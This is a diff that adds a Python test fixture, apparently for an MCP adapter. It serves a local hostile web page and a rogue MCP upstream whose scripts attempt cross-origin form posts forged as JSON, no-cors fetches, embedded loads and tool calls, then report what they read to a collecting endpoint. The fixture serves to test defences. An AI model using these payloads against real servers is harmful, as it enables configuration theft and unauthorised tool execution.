@@ -1,0 +1,172 @@
+"""Somebody's site on another port of this machine: a page that attacks the adapter's mounts, an MCP server that answers
+with pages, and a place that its scripts report to.
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+from dataclasses import dataclass, field
+
+from aiohttp import ClientSession, web
+
+from tests.edge.raw import INITIALIZE, modern_body, modern_fields
+
+_REPORT = "fetch(`{here}/told?${{encodeURIComponent(what)}}`, {{ mode: 'no-cors', keepalive: true }})"
+
+_ANSWER = """<!doctype html><title>an answer</title><script>
+const told = (what) => {report};
+told('a script ran at ' + window.origin);
+const say = (path, options) => fetch(path, options)
+  .then((answer) => answer.text())
+  .then((text) => told(path + ': ' + text));
+const json = {{ 'Content-Type': 'application/json' }};
+say('/explorer/-/me');
+say('/explorer/-/config');
+say('/explorer/victim/tools/tool/call', {{ method: 'POST', headers: json, body: '{{}}' }});
+say('/mcp/victim', {{ method: 'POST', headers: {{ ...json, ...{fields} }}, body: {body} }});
+</script>"""
+
+_PAGE = """<!doctype html><title>a page</title><body><script>
+const told = (what) => {report};
+const mount = {mount};
+const loaded = (element) => new Promise((done) => {{
+  element.onload = element.onerror = () => done();
+  document.body.append(element);
+}});
+const made = (name, words) => Object.assign(document.createElement(name), words);
+
+/** A form whose body is JSON, as far as a form's can be: text/plain writes name=value. */
+function form(target) {{
+  const field = made('input', {{ name: {half}, value: {rest} }});
+  const posted = made('form', {{ action: mount, method: 'post', enctype: 'text/plain', target }});
+  posted.append(field);
+  document.body.append(posted);
+  return posted;
+}}
+
+async function posting() {{
+  const frame = made('iframe', {{ name: 'posted' }});
+  const done = loaded(frame);
+  await done;
+  const again = new Promise((over) => {{ frame.onload = () => over(); }});
+  form('posted').submit();
+  await again;
+}}
+
+const quietly = (options) => fetch(mount, options).then((answer) => answer.text()).catch((error) => String(error));
+Promise.all([
+  posting(),
+  loaded(made('iframe', {{ src: mount }})),
+  loaded(made('object', {{ data: mount }})),
+  loaded(made('embed', {{ src: mount }})),
+  loaded(made('script', {{ src: mount }})),
+  loaded(made('img', {{ src: mount }})),
+  quietly({{ method: 'POST', mode: 'no-cors', body: {initialize} }}),
+  quietly({{ method: 'POST', mode: 'no-cors', body: new URLSearchParams({initialize}) }}),
+  quietly({{ method: 'POST', headers: {{ 'Content-Type': 'application/json' }}, body: {initialize} }}),
+]).then(() => {{ window.tried = true; }});
+window.takeOver = () => form('_self').submit();
+</script>"""
+
+
+@dataclass
+class Site:
+    """``told`` is what scripts have reported, ``asked`` counts the requests that reached the site's MCP server."""
+
+    told: list[str] = field(default_factory=list)
+    asked: int = 0
+    mount: str = ""
+    url: str = ""
+
+    def _report(self) -> str:
+        return _REPORT.format(here=self.url)
+
+    async def page(self, _: web.Request) -> web.Response:
+        """The page that attacks."""
+        body = json.dumps(INITIALIZE.decode())
+        half, rest = INITIALIZE.decode()[:-1] + ',"_":"', '"}'
+        text = _PAGE.format(
+            report=self._report(),
+            mount=json.dumps(self.mount),
+            half=json.dumps(half),
+            rest=json.dumps(rest),
+            initialize=body,
+        )
+        return web.Response(text=text, content_type="text/html")
+
+    async def answer(self, _: web.Request) -> web.Response:
+        """Answer everything that the MCP server is asked with a page, whose script attacks the adapter."""
+        self.asked += 1
+        fields = {name.replace("_", "-"): value for name, value in modern_fields().items()}
+        text = _ANSWER.format(
+            report=self._report(), fields=json.dumps(fields), body=json.dumps(modern_body().decode())
+        )
+        fields = {
+            "Set-Cookie": "a=1",
+            "Content-Security-Policy": "default-src *",
+            "Refresh": f"0;url={self.url}",
+        }
+        return web.Response(text=text, content_type="text/html", headers=fields)
+
+    async def hear(self, request: web.Request) -> web.Response:
+        """A report of a script."""
+        self.told.append(request.query_string)
+        return web.Response(status=204)
+
+
+@asynccontextmanager
+async def hostile_site() -> AsyncIterator[Site]:
+    """The site on 127.0.0.1: ``/`` is the page, ``/upstream`` the server."""
+    site = Site()
+    app = web.Application()
+    app.router.add_get("/", site.page)
+    app.router.add_get("/told", site.hear)
+    app.router.add_route("*", "/upstream", site.answer)
+    async with _serving(app) as site.url:
+        yield site
+
+
+@asynccontextmanager
+async def old_browser(adapter: str) -> AsyncIterator[str]:
+    """The adapter as an old browser would ask it: no Sec-Fetch fields, and any type of body passes for JSON.
+
+    What the adapter answers is passed on as it is, so that what a browser makes of it can be seen.
+    """
+
+    async def pass_on(request: web.Request) -> web.Response:
+        fields = {
+            name: value
+            for name, value in request.headers.items()
+            if not name.lower().startswith("sec-fetch") and name.lower() not in ("host", "origin")
+        }
+        fields["Content-Type"] = "application/json"
+        async with (
+            ClientSession(auto_decompress=False) as http,
+            http.request(
+                request.method, adapter + request.path_qs, data=await request.read(), headers=fields
+            ) as answer,
+        ):
+            kept = {
+                name: value
+                for name, value in answer.headers.items()
+                if name.lower() not in ("content-length", "transfer-encoding", "connection")
+            }
+            return web.Response(status=answer.status, body=await answer.read(), headers=kept)
+
+    app = web.Application()
+    app.router.add_route("*", "/{tail:.*}", pass_on)
+    async with _serving(app) as url:
+        yield url
+
+
+@asynccontextmanager
+async def _serving(app: web.Application) -> AsyncIterator[str]:
+    runner = web.AppRunner(app, shutdown_timeout=0.1)
+    await runner.setup()
+    await web.TCPSite(runner, "127.0.0.1", 0).start()
+    try:
+        yield f"http://127.0.0.1:{runner.addresses[0][1]}"
+    finally:
+        await runner.cleanup()
